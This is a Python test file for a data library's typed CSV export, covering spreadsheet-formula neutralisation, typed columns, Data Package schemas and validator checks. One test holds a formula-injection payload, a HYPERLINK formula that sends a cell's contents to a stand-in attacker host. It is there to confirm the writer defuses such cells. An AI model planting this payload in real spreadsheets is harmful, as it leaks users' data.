"""The typed CSV format (version 2) and its Data Package: formula cells neutralised, typed columns.

Issue #15's findings: ``=HYPERLINK(...)`` written unchanged into a spreadsheet export;
a naive sum of the one ``value`` column adding six currencies; a Table Schema that
declared 17 of 20 fields as strings, so ``frictionless validate`` passed
``not-a-number``, ``Atlantis`` and ``2014-13``.
"""

from __future__ import annotations

import csv
import io as stdio
import json
import shutil
import warnings
from decimal import Decimal
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commit_mef import LoadError, Money, Observation, ObservationTable, datasets, io
from commit_mef.io._csv_typed import neutralised, restored
from commit_mef.testing import observation_tables

DATA = Path(__file__).parent / "data" / "format-v1"
TRIGGERS = "=+-@\t\r"
SETTINGS = settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])


def texts_table(*texts: str) -> ObservationTable:
    return ObservationTable.from_rows(
        [Observation(indicator="note", country="LAO", value=t) for t in texts]
    )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(stdio.StringIO(text, newline="")))


def written(table: ObservationTable, **options: Any) -> str:
    out = stdio.StringIO(newline="")
    io.write_csv(table, out, **options)
    return out.getvalue()


# -- point 3: formula neutralisation -------------------------------------------------------
def test_a_hyperlink_formula_is_written_as_text_and_read_back_unchanged() -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    table = texts_table(formula)
    text = written(table)
    assert csv_rows(text)[0]["text"] == "'" + formula
    assert io.read_csv(stdio.StringIO(text)) == table


@pytest.mark.parametrize("first", [*TRIGGERS, "'"])
def test_every_formula_leading_character_is_prefixed(first: str) -> None:
    cell = first + "1+1"
    assert csv_rows(written(texts_table(cell)))[0]["text"] == "'" + cell


def test_every_text_column_is_neutralised_not_only_the_value() -> None:
    table = ObservationTable.from_rows(
        [
            Observation(
                indicator="-dash",
                country="KHM",
                value=Decimal("1"),
                unit="@person",
                id="+id",
                as_written="=SUM(A1:A9)",
                disaggregation={"sex": "=female"},
            )
        ]
    )
    row = csv_rows(written(table))[0]
    assert [row[c] for c in ("indicator", "unit", "id", "as_written", "dim.sex")] == [
        "'-dash",
        "'@person",
        "'+id",
        "'=SUM(A1:A9)",
        "'=female",
    ]
    assert io.read_csv(stdio.StringIO(written(table))) == table


def test_numbers_are_never_prefixed_a_negative_amount_stays_a_number() -> None:
    table = ObservationTable.from_rows(
        [
            Observation(indicator="b", country="KHM", value=Money("-5.25", "USD")),
            Observation(indicator="n", country="KHM", value=Decimal("-3")),
        ]
    )
    rows = csv_rows(written(table))
    assert (rows[0]["amount"], rows[1]["number"]) == ("-5.25", "-3")
    frame = pd.read_csv(stdio.StringIO(written(table)))
    assert frame["amount"].iloc[0] == -5.25
    assert frame["number"].iloc[1] == -3


def test_neutralise_false_writes_cells_as_they_are_for_machines() -> None:
    table = texts_table("=1+1", "-x", "'=kept")
    rows = csv_rows(written(table, neutralise=False))
    assert [r["text"] for r in rows] == ["=1+1", "-x", "''=kept"]
    assert io.read_csv(stdio.StringIO(written(table, neutralise=False))) == table


def test_neutralise_must_be_a_bool() -> None:
    with pytest.raises(TypeError, match="neutralise must be True or False"):
        io.write_csv(texts_table("x"), stdio.StringIO(), neutralise="no")  # type: ignore[arg-type]


def test_a_foreign_file_is_not_altered_on_read() -> None:
    """A file in the older layout (or a user's own) is not the typed format: no ``'`` is taken off."""
    text = "indicator,country,kind,value\nnote,LAO,text,'=kept\n"
    assert [o.value for o in io.read_csv(stdio.StringIO(text))] == ["'=kept"]
    own = "country,year,indicator,value,note\nLAO,2014,x,5,'=kept\n"
    table = io.read_csv(stdio.StringIO(own))
    assert [o.details for o in table] == [(("note", "'=kept"),)]


@SETTINGS
@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=12))
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert restored(neutralised(text)) == text
    assert restored(neutralised(text, neutralise=False)) == text
    if text and text[0] in TRIGGERS:
        assert neutralised(text).startswith("'")


@SETTINGS
@given(
    st.lists(
        st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=10),
        min_size=1,
        max_size=5,
    ),
    st.booleans(),
)
def test_any_text_round_trips_bare_cr_and_control_characters_included(
    texts: list[str], neutralise: bool
) -> None:
    table = texts_table(*texts, "a\rb", "\x00\x01\x1b\x7f", "\r", "\t-")
    assert io.read_csv(stdio.StringIO(written(table, neutralise=neutralise))) == table


@SETTINGS
@given(observation_tables(max_size=8))
def test_every_table_round_trips_through_the_typed_csv(table: ObservationTable) -> None:
    assert io.read_csv(stdio.StringIO(written(table))) == table
    assert io.read_csv(stdio.StringIO(written(table, neutralise=False))) == table


# -- point 6: typed columns ---------------------------------------------------------------------
def spa3() -> ObservationTable:
    return datasets.spa3_report().observations


def test_pandas_reads_numbers_as_numbers_and_sums_money_per_currency() -> None:
    """The naive-sum case: counts and amounts in their own columns, each amount beside its currency."""
    table = spa3()
    frame = pd.read_csv(stdio.StringIO(written(table)))
    assert frame["number"].dtype.kind == "f"
    assert frame["amount"].dtype.kind == "f"
    assert str(frame["period_start"].dtype) != "float64"
    money = [o for o in table if isinstance(o.value, Money)]
    assert len({o.value.currency.code for o in money}) >= 6  # type: ignore[union-attr]
    assert frame.loc[frame["kind"] != "money", "amount"].isna().all()
    assert frame.loc[frame["kind"] != "number", "number"].isna().all()
    sums = frame.groupby("currency")["amount"].sum()
    exact: dict[str, Decimal] = {}
    for o in money:
        code = o.value.currency.code  # type: ignore[union-attr]
        exact[code] = exact.get(code, Decimal(0)) + o.value.amount  # type: ignore[union-attr]
    assert set(sums.index) == set(exact)
    for code, total in exact.items():
        assert sums[code] == pytest.approx(float(total), rel=1e-12)


def test_duckdb_reads_the_typed_columns_with_their_types(tmp_path: Path) -> None:
    duckdb = pytest.importorskip("duckdb")
    io.write_csv(spa3(), tmp_path / "obs.csv")
    relation = duckdb.connect().read_csv(str(tmp_path / "obs.csv"))
    described = {name: str(t) for name, t in zip(relation.columns, relation.types, strict=True)}
    assert described["period_start"] == "DATE"
    assert described["row"] in ("BIGINT", "INTEGER")
    assert described["amount"] in ("BIGINT", "DOUBLE") or described["amount"].startswith("DECIMAL")
    per_currency = relation.filter("kind = 'money'").aggregate("currency, sum(amount)").fetchall()
    assert len(per_currency) >= 6


def test_polars_reads_the_typed_columns_with_their_types() -> None:
    pl = pytest.importorskip("polars")
    frame = pl.read_csv(stdio.BytesIO(written(spa3()).encode()), try_parse_dates=True)
    assert frame.schema["amount"].is_numeric()
    assert frame.schema["number"].is_numeric()
    assert frame.schema["period_start"] == pl.Date
    assert frame.schema["row"] == pl.Int64


def test_the_table_schema_types_every_typed_column(tmp_path: Path) -> None:
    """The 17-of-20-string-fields case: numbers, dates, booleans and JSON are typed; codes are enums."""
    io.write_datapackage(spa3(), tmp_path)
    schema = json.loads((tmp_path / "datapackage.json").read_text())["resources"][0]["schema"]
    fields = {f["name"]: f for f in schema["fields"]}
    types = {name: f["type"] for name, f in fields.items()}
    assert {k: types[k] for k in ("row", "number", "amount", "period_start", "period_end")} == {
        "row": "integer",
        "number": "number",
        "amount": "number",
        "period_start": "date",
        "period_end": "date",
    }
    assert (types["boolean"], types["approximate"]) == ("boolean", "boolean")
    assert (types["source"], types["flags"]) == ("object", "array")
    for name in ("country", "currency", "unit", "kind", "basis", "bound"):
        assert fields[name]["constraints"]["enum"], name
    assert {"KHM", "VNM", "SAU", "KHM+VNM"} <= set(fields["country"]["constraints"]["enum"])
    assert {"KHR", "USD", "SAR"} <= set(fields["currency"]["constraints"]["enum"])
    for name in ("row", "indicator", "country", "kind"):
        assert fields[name]["constraints"]["required"] is True
    assert schema["primaryKey"] == ["row"]
    strings = [n for n, t in types.items() if t == "string" and "constraints" not in fields[n]]
    assert len(strings) < len(types) / 2


def frictionless_errors(folder: Path) -> list[tuple[str, str]]:
    frictionless = pytest.importorskip("frictionless")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # frictionless' own deprecations are not ours
        report = frictionless.validate(str(folder / "datapackage.json"))
    return [(e.type, getattr(e, "field_name", "")) for task in report.tasks for e in task.errors]


def corrupt(folder: Path, edits: dict[str, tuple[str, str]]) -> None:
    """Set one cell per column (``{column: (kind of row, new cell)}``) in the package's CSV."""
    path = folder / "observations.csv"
    rows = list(csv.reader(stdio.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header = rows[0]
    used: set[int] = set()
    for column, (kind, cell) in edits.items():
        i = next(
            i
            for i, r in enumerate(rows[1:], start=1)
            if r[header.index("kind")] == kind and i not in used
        )
        used.add(i)
        rows[i][header.index(column)] = cell
    out = stdio.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def test_frictionless_validates_a_good_package(tmp_path: Path) -> None:
    io.write_datapackage(spa3(), tmp_path)
    assert frictionless_errors(tmp_path) == []


@pytest.mark.parametrize(
    ("column", "kind", "cell"),
    [
        ("number", "number", "not-a-number"),
        ("amount", "money", "12,5"),
        ("country", "number", "Atlantis"),
        ("period", "number", "2014-13"),
        ("currency", "money", "XXY"),
        ("kind", "number", "figure"),
        ("basis", "number", "per-decade"),
        ("period_start", "number", "2014-02-30"),
        ("boolean", "bool", "yes"),
        ("indicator", "number", ""),
        ("source", "money", "{not json"),
    ],
)
def test_frictionless_catches_what_the_reader_catches(
    tmp_path: Path, column: str, kind: str, cell: str
) -> None:
    io.write_datapackage(spa3(), tmp_path)
    corrupt(tmp_path, {column: (kind, cell)})
    with pytest.raises(LoadError) as caught:
        io.read_datapackage(tmp_path)
    assert any(p.path.endswith(f"/{column}") for p in caught.value.problems), caught.value
    errors = frictionless_errors(tmp_path)
    assert errors, f"frictionless passed {cell!r} in {column}"
    assert any(field == column for _type, field in errors), errors


def test_the_issue_s_three_corruptions_at_once(tmp_path: Path) -> None:
    io.write_datapackage(spa3(), tmp_path)
    corrupt(
        tmp_path,
        {
            "number": ("number", "not-a-number"),
            "country": ("number", "Atlantis"),
            "period": ("number", "2014-13"),
        },
    )
    assert {f for _t, f in frictionless_errors(tmp_path)} == {"number", "country", "period"}
    with pytest.raises(LoadError) as caught:
        io.read_datapackage(tmp_path)
    assert {p.path.rsplit("/", 1)[1] for p in caught.value.problems} == {
        "number",
        "country",
        "period",
    }


def test_a_period_label_and_its_dates_must_agree() -> None:
    good = written(
        ObservationTable.from_columns(indicator="x", country="KHM", period=2014, magnitude=[1])
    )
    rows = csv_rows(good)
    assert (rows[0]["period_start"], rows[0]["period_end"]) == ("2014-01-01", "2014-12-31")
    bad = good.replace("2014-12-31", "2015-12-31")
    with pytest.raises(LoadError, match=r"2015-12-31 does not match the period 2014") as caught:
        io.read_csv(stdio.StringIO(bad))
    assert [p.path for p in caught.value.problems] == ["/rows/2/period_end"]


def test_every_bad_cell_is_reported_with_its_row_and_column() -> None:
    table = ObservationTable.from_columns(
        indicator="x", country=["KHM", "LAO", "THA"], period=2014, magnitude=[1, 2, 3]
    )
    text = written(table).replace("LAO", "Atlantis").replace(",3,", ",three,")
    with pytest.raises(LoadError) as caught:
        io.read_csv(stdio.StringIO(text))
    assert [p.path for p in caught.value.problems] == ["/rows/3/country", "/rows/4/number"]


def test_a_value_in_the_column_of_another_kind_is_refused() -> None:
    text = written(texts_table("note")).replace(",text,,,,,note,", ",text,5,,,,note,")
    with pytest.raises(LoadError, match=r"a row of kind 'text' has no number") as caught:
        io.read_csv(stdio.StringIO(text))
    assert [p.path for p in caught.value.problems] == ["/rows/2/number"]


# -- older files ------------------------------------------------------------------------------
def test_a_format_1_csv_still_reads() -> None:
    expected = io.loads((DATA / "observations.json").read_text(encoding="utf-8"))
    assert io.read_csv(DATA / "observations.csv") == expected


def test_a_format_1_data_package_still_reads(tmp_path: Path) -> None:
    expected = io.loads((DATA / "observations.json").read_text(encoding="utf-8"))
    assert (
        "csv" not in json.loads((DATA / "package" / "datapackage.json").read_text())["commit-mef"]
    )
    shutil.copytree(DATA / "package", tmp_path / "pkg")
    assert io.read_datapackage(tmp_path / "pkg") == expected


def test_a_new_package_says_its_csv_version(tmp_path: Path) -> None:
    io.write_datapackage(texts_table("x"), tmp_path)
    assert json.loads((tmp_path / "datapackage.json").read_text())["commit-mef"]["csv"] == 2


# -- the two splitters: pyarrow's reader when installed, the stdlib's always ----------------
def read_both(text: str, monkeypatch: pytest.MonkeyPatch) -> tuple[Any, Any]:
    """What the Arrow path and the stdlib path make of one text (a table, or the problems)."""
    from commit_mef.io import _csv_columns

    def outcome() -> Any:
        try:
            return io.read_csv(stdio.StringIO(text))
        except LoadError as exc:
            return [(p.path, p.message) for p in exc.problems]

    fast = outcome()
    with monkeypatch.context() as patch:
        patch.setattr(_csv_columns, "_split_arrow", lambda *_a: None)
        plain = outcome()
    return fast, plain


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(observation_tables(max_size=8), st.booleans())
def test_the_arrow_and_the_stdlib_readers_agree_on_good_files(
    monkeypatch: pytest.MonkeyPatch, table: ObservationTable, neutralise: bool
) -> None:
    fast, plain = read_both(written(table, neutralise=neutralise), monkeypatch)
    assert fast == plain == table


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(
            ["", "-", ".", "1.", ".5", "1..2", "1-2", "--1", "1e3", " 5", "+5", "NaN", "x", "12.50"]
        ),
        min_size=1,
        max_size=4,
    )
)
def test_the_arrow_and_the_stdlib_readers_agree_on_any_number_cell(
    monkeypatch: pytest.MonkeyPatch, cells: list[str]
) -> None:
    table = ObservationTable.from_columns(
        indicator="x", country="KHM", magnitude=list(range(len(cells)))
    )
    rows = list(csv.reader(stdio.StringIO(written(table), newline="")))
    at = rows[0].index("number")
    for row, cell in zip(rows[1:], cells, strict=True):
        row[at] = cell
    out = stdio.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    fast, plain = read_both(out.getvalue(), monkeypatch)
    assert fast == plain


def test_a_large_table_reads_exactly_through_the_vectorised_path() -> None:
    import numpy as np

    n = 5_000
    rng = np.random.default_rng(3)
    table = ObservationTable.from_columns(
        indicator=[("budget", "training")[i % 2] for i in range(n)],
        country=(rng.integers(0, 3, n), ["KHM", "LAO", "THA"]),
        period=rng.integers(2004, 2024, n),
        magnitude=rng.integers(-(10**12), 10**12, n),
        exponent=-3,
        currency=(rng.integers(0, 2, n), ["USD", None]),
        disaggregation={"sex": [(None, "female", "male")[i % 3] for i in range(n)]},
    )
    assert io.read_csv(stdio.StringIO(written(table))) == table
